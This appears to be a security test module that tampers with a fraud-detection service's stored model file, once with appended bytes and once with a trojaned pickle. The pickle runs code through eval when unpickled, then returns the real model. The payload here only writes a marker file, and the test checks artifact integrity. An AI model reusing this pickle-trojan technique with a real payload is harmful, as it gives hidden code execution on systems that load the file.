"""HIGH-2: tamper with the artifacts at rest, then let the service load them.

Two tamperings: bytes appended to the model file (joblib ignores them, so only a hash notices), and
a trojaned model: a pickle that writes a marker file when unpickled and then returns the genuine
model, so the service keeps answering normally while the attacker's code has run.
"""

from __future__ import annotations

import base64
import os
import pickle
import shutil
from pathlib import Path
from typing import Callable

from fraudpipe.artifacts import MODEL_FILE
from security_tests.attacks.client import Client


class _Trojan:
    def __init__(self, original: bytes, marker: Path) -> None:
        self.original, self.marker = original, marker

    def __reduce__(self):
        code = (f"(__import__('pathlib').Path({str(self.marker)!r}).write_text('code ran at unpickling'), "
                f"__import__('joblib').load(__import__('io').BytesIO(__import__('base64').b64decode("
                f"{base64.b64encode(self.original).decode()!r}))))[1]")
        return (eval, (code,))


def trojan_pickle(original: bytes, marker: Path) -> bytes:
    return pickle.dumps(_Trojan(original, marker), protocol=4)


def _writable_copy(source: Path, target: Path) -> Path:
    shutil.copytree(source, target)
    for entry in target.iterdir():
        os.chmod(entry, 0o644)
    return target


def tamper_and_load(source: Path, workdir: Path, mode: str, start_service: Callable[[Path], Client]) -> dict:
    """``mode`` is ``append`` or ``trojan``; returns what the service did with the tampered folder."""
    folder = _writable_copy(source, workdir / f"tampered-{mode}")
    marker = workdir / f"marker-{mode}"
    model = folder / MODEL_FILE
    original = model.read_bytes()
    if mode == "append":
        model.write_bytes(original + b"TAMPERED_PAYLOAD")
    elif mode == "trojan":
        model.write_bytes(trojan_pickle(original, marker))
    else:
        raise ValueError(f"unknown tampering {mode!r}")
    client = start_service(folder)
    health = client.get("/health")
    from security_tests.attacks.probing import SEED_TRANSACTION

    prediction = client.predict(SEED_TRANSACTION)
    loaded = bool(isinstance(health.body, dict) and health.body.get("ready"))
    marker_written = marker.exists()
    return {
        "tampering": mode,
        "tampered_file": MODEL_FILE,
        "bytes_before": len(original),
        "bytes_after": model.stat().st_size,
        "service_ready": loaded,
        "health": health.body,
        "predict_status": prediction.status,
        "marker_written": marker_written,
        "attack_succeeded": loaded or marker_written,
        "summary": (f"{mode}: tampered {MODEL_FILE} {'LOADED' if loaded else 'refused'} "
                    f"(/health {health.status}, /predict {prediction.status}); attacker code "
                    f"{'RAN (marker written)' if marker_written else 'did not run'}"),
    }
